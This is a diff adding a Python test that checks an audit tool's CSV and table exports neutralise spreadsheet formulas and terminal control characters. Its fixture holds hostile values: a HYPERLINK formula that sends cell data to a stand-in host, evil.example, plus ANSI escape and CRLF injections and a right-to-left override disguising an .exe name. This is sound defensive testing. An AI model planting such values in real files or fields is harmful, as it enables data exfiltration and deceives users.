@@ -173,3 +173,31 @@ def test_duckdb_and_python_agree(mixed: Mixed, by: Any, what_if: Any) -> None:
             options: dict[str, Any] = {"by": by, "what_if": what_if, "by_subdivision": by_subdivision}
             fast = s.summarize([mixed.directory], start, end, **options)
             assert fast == s.summarize_python([mixed.directory], start, end, **options), (start, end)
+
+
+HOSTILE = {
+    "publisher": "rferl",
+    "id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "url": "+1\x1b[2J\x1b]0;owned\x07\r\nnext",
+    "section": "-2+3",
+    "tags": ["@sum(a1)", "ok", "tab\there"],
+    "type": "a\u202egnp.exe",
+}
+
+
+def test_export_and_table_neutralize_formulas_and_control_characters(settings: Settings) -> None:
+    app = create_app(settings)
+    client = app.test_client()
+    assert client.post("/v1/decisions", json={"article": HOSTILE, "reader": RU}).status_code == 200
+    runtime(app).audit.stopped()
+    (row,) = csv.DictReader(io.StringIO(run("audit", "export", str(settings.audit_dir))))
+    assert row["article_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["article_url"] == "'+1[2J]0;ownednext"
+    assert (row["section"], row["tags"], row["article_type"]) == ("'-2+3", "'@sum(a1);ok;tabhere", "agnp.exe")
+    assert row["publisher"] == "rferl" and row["country"] == "RU"  # plain values stay as they are
+    table = run("audit", "query", str(settings.audit_dir), "--format", "table", "--country", "RU")
+    assert "\x1b" not in table and "\x07" not in table and "\r" not in table and "\u202e" not in table
+    (line,) = table.splitlines()[1:]
+    assert "'=HYPERLINK" in line
+    jsonl = run("audit", "export", str(settings.audit_dir), "--format", "jsonl")
+    assert orjson.loads(jsonl)["article"]["url"] == HOSTILE["url"]  # JSON keeps the record as it is
